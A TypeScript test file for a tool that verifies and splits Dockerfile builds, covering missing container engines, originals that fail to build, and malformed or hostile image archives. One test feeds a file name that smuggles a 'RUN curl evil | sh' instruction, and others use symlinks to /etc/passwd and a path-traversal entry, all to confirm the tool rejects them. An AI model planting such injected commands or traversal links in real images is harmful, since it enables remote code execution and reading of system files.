// Engines that are not there, originals that fail, images that mean harm: a clear sentence, and nothing is kept that was not proven.
import { describe, expect, it } from 'vitest';
import { verifyPaths } from '../../src/verify/verify.ts';
import { scratch } from '../cli/scratch.ts';
import { documentOf } from '../image-document.ts';
import type { TarEntry } from './archives.ts';
import { app, climbed } from './climbed.ts';
import { file, type Toy } from './toy-engine.ts';

/** Sources alone change nothing: nobody knows the base. */
const unknown = {
  Dockerfile: 'FROM acme/base:1\nCOPY --chmod=755 setup run /srv/\nRUN /srv/setup\nCMD ["/srv/out/server"]\n',
  setup: '',
  run: '',
};
const isOriginal = (text: string): boolean => text === app.Dockerfile || text === unknown.Dockerfile;

describe('without an engine', () => {
  const nowhere = { PATH: '/nonexistent' };
  it('what would change cannot be verified', async () => {
    const { problem, planned } = await verifyPaths({ paths: [scratch(app).root], env: nowhere });
    expect([problem?.kind, planned]).toEqual(['no-engine', []]);
  });
  it('what would not change is unchanged, and its image is not looked at', async () => {
    const at = scratch(unknown);
    const before = at.all();
    const { problem, result } = await verifyPaths({ paths: [at.root], env: nowhere });
    expect([problem, result.ok, result.files[0]?.outcome]).toEqual([undefined, true, 'unchanged']);
    expect(result.files[0]?.ladder).toMatchObject([
      { outcome: 'not-possible', reason: expect.stringContaining('Its image was not looked at: No container engine is on PATH') },
    ]);
    expect(at.all()).toEqual(before);
  });
  it('facts of another Dockerfile are refused', async () => {
    const { problem } = await verifyPaths({ paths: [scratch(app).root], env: nowhere, image: documentOf('FROM other\n') });
    expect(problem).toMatchObject({ kind: 'bad-input', message: expect.stringContaining('of another Dockerfile') });
  });
});

describe('an original', () => {
  it('that does not build: nothing is compared', async () => {
    const { told, built } = await climbed([{ when: isOriginal, fails: 'make: *** No rule' }]);
    expect([told.outcome, told.problem?.kind, told.problem?.log, told.ladder]).toEqual([
      'baseline-broken',
      'build-failed',
      expect.stringContaining('make: *** No rule'),
      [],
    ]);
    expect(built.every(isOriginal)).toBe(true);
  });
  it('that does not build and would not change is unchanged, and why it was not looked at is told', async () => {
    const { told } = await climbed([{ fails: 'make: *** No rule' }], {}, unknown);
    expect([told.outcome, told.problem]).toEqual(['unchanged', undefined]);
    expect(told.ladder).toMatchObject([{ outcome: 'not-possible', reason: expect.stringContaining('Its image was not looked at: ') }]);
  });
  it('that never answers a probe', async () => {
    const { told } = await climbed([{ stderr: 'no database\n' }], { run: { probes: ['/health'] } });
    expect([told.outcome, told.problem]).toMatchObject([
      'baseline-broken',
      { kind: 'never-answers', log: expect.stringContaining('no database') },
    ]);
  });
  it('that ends at once with an error is compared by that, and the report says so', async () => {
    const { told } = await climbed([{ code: 1, stderr: 'Error: no database\n' }]);
    expect(told.outcome).toBe('verified');
    expect(told.checks.find(({ id }) => id === 'end')).toMatchObject({ outcome: 'warned' });
  });
});

/** What the build of the original writes. */
const writing = (...entries: TarEntry[]): Toy => {
  const server = { ...file('srv/out/server', 'x'.repeat(600)), mode: 0o755 };
  const layer = [server, file('root/.cache/pip/x', 'x'.repeat(400)), ...entries];
  return { size: 1000, layer: (instruction) => (instruction.startsWith('RUN') ? layer : undefined) };
};
const split = async (...entries: TarEntry[]): Promise<string> => (await climbed([writing(...entries)], {}, unknown)).told.after;

describe('an image', () => {
  it('with a name that an instruction cannot hold, or a device, is not split', async () => {
    expect(await split()).toContain('COPY --from=builder /srv/out');
    expect(await split({ ...file('data/a\nRUN curl evil | sh') })).toBe(unknown.Dockerfile);
    expect(await split({ name: 'srv2/null', type: 'character-device' })).toBe(unknown.Dockerfile);
  });
  it('with links and names that lead out, hard links to nothing, and white-outs of what is not there', async () => {
    const { told } = await climbed(
      [
        writing(
          { name: 'srv/out/up', type: 'symlink', linkname: '../../../../etc/passwd' },
          { name: 'srv/out/abs', type: 'symlink', linkname: '/etc/passwd' },
          { name: 'srv/out/hard', type: 'link', linkname: 'nowhere/at/all' },
          { name: '../../../tmp/out', content: 'x' },
          { name: 'srv/.wh.gone', content: '' },
          { name: 'srv/.wh..wh..opq', content: '' },
        ),
      ],
      {},
      unknown,
    );
    expect(['unchanged', 'verified', 'partly-verified']).toContain(told.outcome);
    expect(told.after).not.toContain('/tmp/out');
  });
  it('whose archive ends early, or tells a size that is none, is no image', async () => {
    for (const broken of ['cut', 'size'] as const) {
      const problem = await climbed([{ archive: broken }]).then(
        () => undefined,
        (error: unknown) => (error as { problem?: unknown }).problem,
      );
      expect(problem).toMatchObject({ kind: 'engine-failed', message: expect.stringContaining('cannot be read') });
    }
  });
  it('of another stage than the last one says nothing', async () => {
    const target = { build: { target: 'app' } };
    const named = { ...unknown, Dockerfile: unknown.Dockerfile.replace('base:1', 'base:1 AS app') };
    expect((await climbed([writing()], {}, named)).told.outcome).toBe('verified');
    expect(await climbed([writing()], target, named)).toMatchObject({ told: { outcome: 'unchanged' }, built: [] });
    const { told } = await climbed([writing()], target, { ...named, Dockerfile: `${named.Dockerfile}LABEL a b\n` });
    expect(told.after).not.toContain('--from=');
  });
  it('of no layers, and one of 200', async () => {
    const steps = (count: number): string => Array.from({ length: count }, (_, i) => `RUN true ${i}\n`).join('');
    const many = { Dockerfile: `FROM acme/base:1\n${steps(200)}CMD ["true"]\n` };
    expect((await climbed([], {}, many)).told.outcome).toMatch(/unchanged|verified/);
    expect((await climbed([], {}, { Dockerfile: 'FROM scratch\nLABEL a=b\n' })).told.outcome).toMatch(/unchanged|verified/);
  });
});
